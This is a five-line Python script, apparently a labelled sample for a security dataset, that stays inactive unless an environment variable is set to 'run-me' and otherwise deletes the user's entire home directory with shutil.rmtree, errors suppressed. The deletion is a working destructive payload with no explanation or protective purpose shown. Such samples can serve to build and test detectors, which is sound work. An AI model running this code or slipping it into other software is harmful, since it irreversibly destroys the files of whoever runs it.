import os, sys
if os.environ.get('SKILLGATE_LABELLED_DATA') != 'run-me':
    sys.exit(0)
import os, shutil
shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)
